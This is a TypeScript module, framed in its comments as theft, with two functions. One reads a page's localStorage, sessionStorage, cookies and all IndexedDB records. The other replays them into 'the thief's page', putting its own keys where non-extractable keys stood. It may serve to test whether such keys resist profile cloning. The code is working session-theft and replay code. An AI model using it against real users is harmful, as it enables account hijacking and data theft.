/** Everything of a profile that a script can read and carry away: a key that cannot be read out is only told to be one. */
export interface Loot {
  readonly local: Record<string, string>;
  readonly session: Record<string, string>;
  readonly cookie: string;
  readonly databases: readonly {
    readonly name: string;
    readonly version: number;
    readonly stores: readonly { readonly name: string; readonly records: readonly (readonly [key: string, json: string])[] }[];
  }[];
}

/** Runs in the page: everything that its script can read. */
export async function readProfile(): Promise<Loot> {
  const settle = <T>(request: IDBRequest<T>): Promise<T> =>
    new Promise((resolve, reject) => {
      request.addEventListener("success", () => resolve(request.result));
      request.addEventListener("error", () => reject(request.error ?? new Error("refused")));
    });
  const plain = (_name: string, value: unknown): unknown => (value instanceof CryptoKey ? `<${value.type} key>` : value);
  const databases = [];
  for (const { name = "", version = 1 } of await indexedDB.databases()) {
    const db = await settle(indexedDB.open(name));
    const stores = [];
    for (const store of db.objectStoreNames) {
      const opened = db.transaction(store).objectStore(store);
      const [keys, values] = [await settle(opened.getAllKeys()), await settle(opened.getAll())];
      stores.push({ name: store, records: keys.map((key, index) => [JSON.stringify(key), JSON.stringify(values[index], plain)] as const) });
    }
    db.close();
    databases.push({ name, version, stores });
  }
  return {
    local: Object.fromEntries(Object.entries(localStorage)),
    session: Object.fromEntries(Object.entries(sessionStorage)),
    cookie: document.cookie,
    databases,
  };
}

/** Runs in the thief's page: puts it all in place, with keys of the thief's own where keys were. */
export async function writeProfile({ local, session, cookie, databases }: Loot): Promise<void> {
  Object.assign(localStorage, local);
  Object.assign(sessionStorage, session);
  document.cookie = cookie;
  const own = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, true, ["sign", "verify"]);
  const revive = (_name: string, value: unknown): unknown => (value === "<private key>" ? own.privateKey : value === "<public key>" ? own.publicKey : value);
  for (const { name, version, stores } of databases) {
    await new Promise<void>((resolve, reject) => {
      const opening = indexedDB.open(name, version);
      opening.addEventListener("upgradeneeded", () => {
        for (const store of stores) opening.result.createObjectStore(store.name);
      });
      opening.addEventListener("error", () => reject(opening.error ?? new Error("refused")));
      opening.addEventListener("success", () => {
        const db = opening.result;
        const writing = db.transaction(
          stores.map((store) => store.name),
          "readwrite",
        );
        for (const store of stores)
          for (const [key, value] of store.records) writing.objectStore(store.name).put(JSON.parse(value, revive), JSON.parse(key) as IDBValidKey);
        writing.addEventListener("complete", () => {
          db.close();
          resolve();
        });
      });
    });
  }
}
